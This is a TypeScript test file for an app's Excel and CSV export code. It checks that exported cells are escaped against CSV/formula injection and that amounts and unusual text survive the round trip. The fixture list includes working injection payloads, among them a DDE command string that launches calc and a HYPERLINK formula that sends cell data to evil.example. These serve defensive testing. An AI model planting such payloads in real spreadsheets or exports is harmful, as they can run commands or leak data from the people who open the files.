import { unzipSync } from 'fflate'
import readWorkbook from 'read-excel-file/node'
import { describe, expect, test } from 'vitest'
import { csv } from '#app/exports/csv.ts'
import { type Cell, inWan } from '#app/exports/listing.ts'
import { headRows, workbook } from '#app/exports/workbook.server.ts'

type Line = { name: string; fen: number | null }

const heads = [
  { head: '项目', width: 30 },
  { head: '金额（万元）', width: 16 },
]

const cells = ({ name, fen }: Line): Cell[] => [name, inWan(fen)]

const made = async (rows: Line[], note = '共') =>
  Buffer.from(await workbook({ title: note, note, heads, rows: rows.map(cells) }))

async function readBack(rows: Line[], note?: string) {
  const [sheet] = await readWorkbook(await made(rows, note))
  return sheet?.data.slice(headRows - 1) ?? []
}

/** What a spreadsheet, or whoever makes CSV of it, has taken for a formula: OWASP, CSV Injection. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"点这里")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '　=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '|calc',
  '%0A=1',
  '\u0000=1+1',
]

describe('workbooks', () => {
  test.each(formulas)('%j is a text that begins no formula', async (name) => {
    const [, row] = await readBack([{ name, fen: 1 }])
    expect(row?.[0]).toMatch(/^'/)
  })

  test('no part of the file holds a formula, a link or an external thing', async () => {
    const parts = unzipSync(
      await made(
        formulas.map((name) => ({ name, fen: 1 })),
        '=1+1',
      ),
    )
    const written = Object.entries(parts).map(([path, bytes]) => `${path}\n${Buffer.from(bytes).toString('utf8')}`)
    expect(written.length).toBeGreaterThan(3)
    for (const part of written) {
      expect(part).not.toMatch(/<f[ >]|<hyperlink|ddeLink|externalLink|oleLink/)
    }
  })

  test('amounts come back as the same fen, to a hundred thousand 亿元', async () => {
    const amounts = [0, 1, 10, 99, 10_000, 123_456_789, 40_000_000_000, 123_456_789_012_345, 1_000_000_000_000_001]
    const rows = await readBack(amounts.map((fen) => ({ name: '甲', fen })))
    const back = rows.slice(1, amounts.length + 1).map((row) => Number(row[1]) * 1_000_000)
    expect(back.map((fen) => Math.round(fen))).toEqual(amounts)
    for (const [at, fen] of back.entries()) expect(Math.abs(fen - (amounts[at] ?? 0))).toBeLessThan(0.25)
  })

  test('an amount that is not there is an empty cell, not a nought', async () => {
    expect((await readBack([{ name: '甲', fen: null }]))[1]).toEqual(['甲', null])
  })

  test.each([
    '𠮷㐂䶮𬱖\u{2EBF0}科技',
    '</t><t>甲&amp;<!--',
    ']]>',
    '甲"乙\'丙',
    '葛\u{E0100}城',
    '甲_x000D_乙_x003D_1',
  ])('%j comes back as it was', async (name) => {
    expect((await readBack([{ name, fen: 1 }]))[1]?.[0]).toBe(name)
  })
})

describe('CSV', () => {
  test.each(formulas)('%j begins no formula', (name) => {
    const [, line = ''] = csv([['项目'], [name]]).split('\r\n')
    expect(line).toMatch(/^"'/)
  })

  test('quotes and line breaks stay inside their cell', () => {
    expect(
      csv([
        ['a', 'b'],
        ['甲"乙', '丙\r\n丁,戊'],
      ]),
    ).toBe('\uFEFF"a","b"\r\n"甲""乙","丙\r\n丁,戊"\r\n')
  })
})
